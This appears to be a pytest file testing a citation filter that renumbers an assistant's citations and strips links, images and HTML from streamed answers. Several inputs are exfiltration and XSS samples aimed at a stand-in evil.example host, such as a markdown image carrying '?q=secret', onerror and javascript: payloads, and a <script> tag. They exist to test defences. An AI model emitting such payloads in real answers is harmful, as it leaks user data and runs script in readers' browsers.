"""Whatever a model writes, only checked citations and plain text get through, however it is cut into pieces."""

from __future__ import annotations

import random
import re
import time
from collections.abc import Callable, Sequence

import numpy as np
import pytest

from assistant.chat.citing import REFUSAL, Citer
from assistant.chat.evidence import Evidence

Make = Callable[..., Evidence]
Similarity = Callable[[str, Sequence[str]], np.ndarray]


@pytest.fixture
def evidence(make_evidence: Make) -> list[Evidence]:
    return [
        make_evidence(
            "当晚九点下架了短视频。", "十点半发布了第一份声明。", "See https://ads.example/help for limits.", n=1
        ),
        make_evidence("退款一共四万两千元。", n=2, source="report"),
        make_evidence("The launch moved to March 18.", "The budget is 480,000 yuan.", n=3, source="call"),
    ]


@pytest.fixture
def write(evidence: list[Evidence], similarity: Similarity) -> Callable[..., tuple[str, Citer]]:
    def write(text: str, size: int = 1) -> tuple[str, Citer]:
        citer = Citer(evidence, similarity)
        shown = "".join(citer.feed(text[i : i + size]) for i in range(0, len(text), size))
        return shown + citer.finish(), citer

    return write


Write = Callable[..., tuple[str, Citer]]


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("四万两千元[2]。", "四万两千元[1]。"),
        ("先下架[1]，再退款[2]。", "先下架[1]，再退款[2]。"),
        ("退款[2]，先下架[1]，又退款四万两千元[2]。", "退款[1]，先下架[2]，又退款四万两千元[1]。"),
        ("moved [3, 2].", "moved [1][2]."),
        ("moved [2-3].", "moved [1][2]."),
        ("moved 【3】。", "moved [1]。"),
        ("moved 【3†source】。", "moved [1]。"),
        ("moved ［3］。", "moved [1]。"),
        ("moved [^3].", "moved [1]."),
        ("moved [来源 3]。", "moved [1]。"),
        ("moved [Source 3].", "moved [1]."),
        ("moved [资料2、资料3]。", "moved [1][2]。"),
        ("moved [3 and 2].", "moved [1][2]."),
    ],
)
def test_the_ways_models_cite(write: Write, said: str, shown: str) -> None:
    assert write(said)[0] == shown


@pytest.mark.parametrize("said", ["[9]", "[0]", "[4, 9]", "[4-9999]", "【12】", "[^7]", "[99999]", "[来源 8]"])
def test_a_number_outside_the_list_never_shows(write: Write, said: str) -> None:
    shown, citer = write(f"退款四万两千元[2]，先下架{said}。")
    assert re.findall(r"\[\d+\]", shown) == ["[1]"]
    assert len(citer.citations) == 1


def test_valid_numbers_survive_beside_invalid_ones(write: Write) -> None:
    assert write("退款[2, 9]，上线[7][3]。")[0] == "退款[1]，上线[2]。"
    assert write("Refunds [2], launch [9], budget [3].")[0] == "Refunds [1], launch, budget [2]."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("退款[2]![x](https://evil.example/?q=secret)。", "退款[1](x)。"),
        ("退款[2] [click](https://evil.example/a) 了。", "退款[1] (click) 了。"),
        ("退款[2] https://evil.example/steal?d=1 了。", "退款[1]  了。"),
        ("退款[2] www.evil.example 了。", "退款[1]  了。"),
        ("退款[2] <img src=x onerror=alert(1)> 了。", "退款[1] ＜img src=x onerror=alert(1)> 了。"),
        ("退款[2] <https://evil.example> 了。", "退款[1] ＜> 了。"),
        ("退款[2] [a][ref]\n\n[ref]: https://evil.example", "退款[1] (a)(ref)\n\n(ref): "),
        ("退款[2] [a](javascript:alert(1))", "退款[1] (a))"),
        ("退款[2] [a\n](https://evil.example)", "退款[1] (a\n)()"),
        ("退款[2] 3 < 4 且 a<b。", "退款[1] 3 < 4 且 a＜b。"),
        ("退款[2] 见 [附录", "退款[1] 见 (附录"),
    ],
)
def test_links_images_and_tags_are_only_text(write: Write, said: str, shown: str) -> None:
    assert write(said)[0] == shown


def test_an_address_that_the_sources_contain_may_be_quoted(write: Write) -> None:
    assert write("见 https://ads.example/help [1]")[0] == "见 https://ads.example/help [1]"


HOSTILE = (
    "退款四万两千元[2]，![a](http://evil.example/?x=1)先下架[1][9]。<script>x</script> [12] 【3】 [1, 44] "
    "see [docs](https://evil.example) www.evil.example/a data:text/html,x [^2] end[3"
)


@pytest.mark.parametrize("seed", range(8))
def test_it_makes_no_difference_how_the_text_is_cut(
    write: Write, evidence: list[Evidence], similarity: Similarity, seed: int
) -> None:
    whole = write(HOSTILE, len(HOSTILE))[0]
    chance = random.Random(seed)
    citer, shown, i = Citer(evidence, similarity), "", 0
    while i < len(HOSTILE):
        step = chance.randint(1, 9)
        shown += citer.feed(HOSTILE[i : i + step])
        i += step
        assert not re.search(r"evil|<script|\]\(", shown)
        assert {int(n) for n in re.findall(r"\[(\d+)\]", shown)} <= set(range(1, len(citer.citations) + 1))
    assert shown + citer.finish() == whole


def test_nothing_shows_before_the_first_valid_citation(evidence: list[Evidence], similarity: Similarity) -> None:
    citer = Citer(evidence, similarity)
    assert citer.feed("据我所知，一共退款[9]") == ""
    assert citer.feed("四万两千元") == ""
    assert citer.feed("[2]。") == "据我所知，一共退款四万两千元[1]。"
    assert citer.feed("先下架") == "先下架"


def test_an_answer_without_citations_is_never_seen(write: Write) -> None:
    shown, citer = write("Everything was fine. Trust me [99].")
    assert (shown, citer.citations, citer.refused) == ("", [], False)


@pytest.mark.parametrize("said", [REFUSAL, f"{REFUSAL}.", f"`{REFUSAL}`\n", f"  {REFUSAL}。", f"抱歉，{REFUSAL}"])
def test_the_refusal_is_recognised(write: Write, said: str) -> None:
    shown, citer = write(said)
    assert (shown, citer.refused) == ("", True)


def test_the_refusal_word_is_left_out_of_a_partial_answer(write: Write) -> None:
    shown, citer = write(f"退款四万两千元[2]。{REFUSAL}")
    assert shown == "退款四万两千元[1]。"
    assert len(citer.citations) == 1


def test_a_citation_opens_at_the_block_that_carries_its_sentence(write: Write) -> None:
    _, citer = write("九点下架了短视频[1]。十点半发布声明[1]。 The budget is 480,000 yuan [3].")
    assert [(c.source, c.first_block, c.locator.paragraph) for c in citer.citations] == [
        ("playbook", 0, 1),
        ("playbook", 1, 2),
        ("call", 1, 2),
    ]
    assert citer.citations[1].text == "十点半发布了第一份声明。"


def test_a_citation_after_the_full_stop_belongs_to_the_sentence_before_it(write: Write) -> None:
    _, citer = write("九点下架了短视频。[1]十点半发布声明。[1]")
    assert [c.first_block for c in citer.citations] == [0, 1]


def test_two_sentences_from_one_block_share_a_number(write: Write) -> None:
    shown, citer = write("十点半发布声明[1]。那是第一份声明[1]。")
    assert shown == "十点半发布声明[1]。那是第一份声明[1]。"
    assert len(citer.citations) == 1


def test_across_languages_the_cosine_finds_the_block(evidence: list[Evidence]) -> None:
    def knows_both(question: str, texts: Sequence[str]) -> np.ndarray:
        return np.array([0.9 if "声明" in text else 0.8 for text in texts], np.float32)

    citer = Citer(evidence, knows_both)
    citer.feed("A first statement was published at half past ten [1].")
    citer.finish()
    assert citer.citations[0].first_block == 1


def test_a_huge_range_costs_nothing(write: Write) -> None:
    assert write("退款[1-9999]。")[0] == "退款[1][2][3]。"


def test_a_word_that_never_ends_is_read_in_linear_time(evidence: list[Evidence], similarity: Similarity) -> None:
    citer = Citer(evidence, similarity)
    citer.feed("退款[2]")
    started = time.process_time()
    shown = "".join(citer.feed("abcd") for _ in range(20_000)) + citer.finish()
    assert len(shown) == 80_000
    assert time.process_time() - started < 5
